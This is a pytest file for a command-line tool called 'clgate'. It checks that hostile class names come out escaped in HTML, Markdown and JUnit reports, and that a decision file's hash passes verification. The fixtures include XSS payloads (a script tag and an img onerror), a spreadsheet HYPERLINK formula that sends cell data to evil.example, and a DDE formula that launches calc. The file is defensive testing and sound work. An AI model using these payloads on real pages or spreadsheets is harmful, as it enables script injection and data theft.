"""Hostile class names through a real ``clgate gate`` process: inert in report.html, report.md and
junit.xml; and decision.json carries a hash that ``clgate audit verify --decision`` checks."""

from __future__ import annotations

import json
import subprocess
import sys
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

from clgate.documents import dump_log

SCRIPT = "<script>alert('x')</script>"
IMG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = [SCRIPT, IMG, FORMULA, "+cmd|' /C calc'!A0", "**bold** [link](http://evil.example)", "ok"]


def _clgate(*args: str | Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "clgate", *map(str, args)],
        check=False,
        capture_output=True,
        text=True,
        timeout=240,
    )


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.script_text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.script_text.append(data)


def test_hostile_class_names_are_inert_in_every_report(tmp_path, forgetful_log, build_log):
    log = forgetful_log(seed=1)
    hostile = build_log(
        [
            (task, end, [pt.correct[i] / pt.total[i] if pt.total[i] else None for i in range(6)])
            for task, end, pt in ((p.task, p.task_end, p) for p in log.points)
        ],
        names=HOSTILE,
    )
    log_path = tmp_path / "log.json"
    dump_log(hostile, log_path)
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        json.dumps(
            {
                "name": "inject",
                "version": "1",
                "rules": [
                    {"metric": "mica", "floor": 0.9},
                    {"classes": [SCRIPT, IMG], "at": "final", "floor": 0.95},
                    {"fmeca": "rpn", "limit": 10},
                ],
                "fmeca": {"default_severity": 6, "severity": {SCRIPT: 9}, "default_detection": 4},
            }
        )
    )
    out = tmp_path / "out"
    res = _clgate("gate", "--log", log_path, "--policy", policy, "--out", out)
    assert res.returncode == 1, res.stdout + res.stderr  # FAIL, reports written

    md = (out / "report.md").read_text(encoding="utf-8")
    assert "<script" not in md and "<img" not in md and "onerror=alert(1)>" not in md
    assert "&lt;script&gt;" in md and "&lt;img src=x onerror=alert(1)&gt;" in md
    assert "**bold**" not in md and "[link](" not in md  # Markdown syntax escaped, not rendered

    page = (out / "report.html").read_text(encoding="utf-8")
    parser = _Tags()
    parser.feed(page)
    assert not any("onerror" in attrs for _, attrs in parser.tags), "an onerror attribute reached the HTML"
    assert not any(tag == "img" and attrs.get("src") == "x" for tag, attrs in parser.tags)
    assert not any("alert(" in text for text in parser.script_text), "a class name runs as a script"
    assert "&lt;script&gt;" in page or "&lt;script>" in page

    junit = (out / "junit.xml").read_text(encoding="utf-8")
    root = ET.fromstring(junit.split("\n", 1)[1])  # parses: the names did not break the XML
    assert not root.findall(".//script") and not root.findall(".//img")
    texts = " ".join((el.text or "") + " ".join(el.attrib.values()) for el in root.iter())
    assert SCRIPT in texts  # carried as escaped text, read back unchanged
    assert "<script>" not in junit.replace("&lt;script&gt;", "")


def test_decision_json_carries_its_hash(tmp_path, forgetful_log):
    log_path = tmp_path / "log.json"
    dump_log(forgetful_log(), log_path)
    policy = tmp_path / "policy.yaml"
    policy.write_text("name: h\nrules:\n  - {metric: mica, floor: 0.1}\n")
    out = tmp_path / "out"
    assert _clgate("gate", "--log", log_path, "--policy", policy, "--out", out).returncode == 0
    decision = out / "decision.json"
    document = json.loads(decision.read_text())
    assert len(document["sha256"]) == 64
    ok = _clgate("audit", "verify", "--decision", decision)
    assert ok.returncode == 0 and document["sha256"] in ok.stdout, ok.stdout + ok.stderr
    document["verdict"] = "PASS" if document["verdict"] != "PASS" else "FAIL"
    edited = tmp_path / "edited.json"
    edited.write_text(json.dumps(document))
    bad = _clgate("audit", "verify", "--decision", edited)
    assert bad.returncode == 1 and "does not match" in bad.stdout, bad.stdout + bad.stderr
    missing = _clgate("audit", "verify", "--decision", Path(tmp_path / "nope.json"))
    assert missing.returncode == 2
